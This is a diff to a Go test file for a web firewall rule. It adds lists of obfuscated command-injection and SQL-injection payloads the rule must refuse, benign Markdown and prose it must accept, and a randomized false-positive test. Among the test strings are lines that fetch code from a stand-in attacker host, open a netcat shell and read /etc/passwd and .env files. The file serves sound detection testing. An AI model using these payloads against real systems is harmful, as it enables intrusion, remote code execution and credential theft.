@@ -23,7 +23,10 @@ func TestShortPayloads(t *testing.T) {
 		"; p''ython3 -c 'im''port os'", "x; k''ill -9 1", "; w'h'o'am'i", ";i''d", "127.0.0.1; id", "127.0.0.1|id", "; ps aux", "; ip a",
 		// a backslash before the quote (BROKE 15)
 		`\' OR 1=1 -- `, `\' OR '1'='1`, `\' OR name='alice' AND password like 'pw%'--`, `\' OR (SELECT password FROM users WHERE name='alice') > 'pv'--`,
-		`\' OR exists(select 1 from users where password like 'p%')--`, `\' OR 1=1 LIMIT 1 OFFSET 1--`} {
+		`\' OR exists(select 1 from users where password like 'p%')--`, `\' OR 1=1 LIMIT 1 OFFSET 1--`,
+		// expansions to nothing, grouping, Windows (a fifth fresh-eyes
+		// attack's F4)
+		";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", "|(id)", ";{ id; }", "& net user", "& ver"} {
 		jv := `"` + jsonEscape(v) + `"`
 		misses = append(misses,
 			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
@@ -61,7 +64,12 @@ func TestShortPayloads(t *testing.T) {
 		"see A;B, 'quoted' # not", "x=1;y=2 -- z", "C#, F#; it's #1",
 		// a plural possessive before a comment (a fourth fresh-eyes attack's
 		// false positive; "the boss' /* note" the CRS alone refuses)
-		"Jones' #1 fan", "the Smiths' -- all of them", "Hello, Jones' #1 fan", "Hi, Williams' -- yes", "the Davis' --2 of them"} {
+		"Jones' #1 fan", "the Smiths' -- all of them", "Hello, Jones' #1 fan", "Hi, Williams' -- yes", "the Davis' --2 of them",
+		// Markdown tables, inline code, line lists and prose (a fifth
+		// fresh-eyes attack's F12)
+		"| id | name | email |\n|---|---|---|\n| 1 | Bob | b@x.io |", "| name | id |\n|---|---|\n| Bob | 7 |", "| Field | Type |\n| id | integer |",
+		"user|id|created", "Set the `id` field to a UUID", "Use `sleep` to pause", "Call `kill` with the pid", "Columns:\nid\nname\nemail",
+		"Order summary\nid 5521", "Pets: dog; cat 3 years old", "Raleigh, NC; nc is North Carolina", "## Fields\n- `id`: the key\n- `name`: a label"} {
 		benign = append(benign,
 			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
 			probe{name: v + " in JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + jsonEscape(v) + `"}`},
@@ -159,4 +167,76 @@ func TestQuoteCommentOnProse(t *testing.T) {
 		gap++
 	}
 	t.Logf("random login bypasses: %d of %d refused, %d passed (a user name ending in s, a space, a comment and a word)", refused, total, gap)
+}
+
+// shellCommandAttacks are the command injections rule 210151 refuses,
+// the fifth fresh-eyes attack's F4 (expansions to nothing between a
+// command's letters, grouping, Windows' net and ver) among them.
+var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id", "a\nid", "a\nid\n", "; id; x", "127.0.0.1; id",
+	"; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i", "; ps aux", "; ip a", "; sleep 5", "127.0.0.1; ping 10.0.0.1", "; kill -9 1",
+	"; cat /etc/passwd", "| cat .env", "x|id|sh", "; nc evil.example 4444", "; nc -e /bin/sh x", "|nc", "x; ver",
+	";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", ";w${x}get evil.example", "|(id)", ";{ id; }", ";(whoami)",
+	"& net user", "& net localgroup administrators", "& ver", "$(id)", "$( id )", "`sleep 5`", "Use `id`", "`id` | nc x 1"}
+
+// shellCommandBenign is ordinary text near 210151's attacks: the fifth
+// fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
+// prose) and more of their kind.
+var shellCommandBenign = []string{
+	"| id | name | email |\n|---|---|---|\n| 1 | Bob | b@x.io |", "| name | id |\n|---|---|\n| Bob | 1 |", "| Field | Type |\n|---|---|\n| id | integer |",
+	"user|id|created", "id|name", "| id |", "Set the `id` field to a UUID", "Use `sleep` to pause", "Call `kill` with the pid",
+	"Run `ls` then `cat` the file.", "Columns:\nid\nname\nemail", "Order summary\nid 5521", "Pets: dog; cat 3 years old",
+	"Raleigh, NC; nc is North Carolina", "Columns:\r\nid\r\nname", "keys:\nid\nhost\nport", "fields; id 7; name Bob", "Q&A: ps",
+	"bring it; cat lovers", "party; bash at 8", "see `host` and `port` below", "| host | port |\n| a | 80 |", "2026-12-03 WARN retry; sleep well",
+	"`id`, `name` and `email`.", "## Fields\n- `id`: the key\n- `name`: a label", "who; what; where", "A; B; C", "x && y", "me & ps: hi", "rock | pop",
+}
+
+// TestShellCommandRule measures rule 210151's expression (as Coraza
+// compiles it, with (?sm)): every attack refused, no benign text, and on
+// random Markdown, logs and lists of words, command words among them,
+// none refused.
+func TestShellCommandRule(t *testing.T) {
+	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(shellCommandRule(), `\"`, `"`))
+	for _, v := range shellCommandAttacks {
+		if !rx.MatchString(v) {
+			t.Errorf("%q: not refused", v)
+		}
+	}
+	for _, v := range shellCommandBenign {
+		if rx.MatchString(v) {
+			t.Errorf("%q: refused", v)
+		}
+	}
+	rng := rand.New(rand.NewPCG(5, 6))
+	pick := func(ws []string) string { return ws[rng.IntN(len(ws))] }
+	words := []string{"id", "name", "email", "host", "port", "cat", "dog", "sleep", "kill", "ls", "head", "tail", "more", "less", "who", "env",
+		"python", "node", "the", "a", "of", "to", "user", "created", "integer", "string", "Bob", "3", "5s", "years", "old", "retry", "WARN", "INFO",
+		"2026-12-03", "`id`", "`name`", "`id`:", "`sleep`,", "(`ls`)", "is", "field", "nc", "NC", "ip", "ps", "ver", "echo", "version", "pid"}
+	// Markdown's tables, lists and inline code, log lines, line lists
+	// and prose (not ; and &, which chain commands: "x; cat; y" is
+	// refused, the rule's documented cost)
+	seps := []string{" ", " ", " ", " ", " ", " | ", "\n", "\n- ", "\n| ", ", ", ": ", " | ", "\n|---|---|\n| "}
+	refused := 0
+	const n = 200000
+	for range n {
+		var b strings.Builder
+		for i, k := 0, 3+rng.IntN(10); i < k; i++ {
+			if i > 0 {
+				b.WriteString(pick(seps))
+			}
+			b.WriteString(pick(words))
+			if rng.IntN(3) == 0 {
+				b.WriteString(" " + pick(words))
+			}
+		}
+		// a value that ends in a command word after a separator is the
+		// attack's own shape ("a\nid", "x | id"): text ends otherwise
+		b.WriteString(pick([]string{".", " ok", " |\n", " to"}))
+		if v := b.String(); rx.MatchString(v) {
+			refused++
+			if refused <= 20 {
+				t.Errorf("random text %q: refused (%q)", v, rx.FindString(v))
+			}
+		}
+	}
+	t.Logf("random Markdown, logs and lists: %d of %d refused", refused, n)
 }
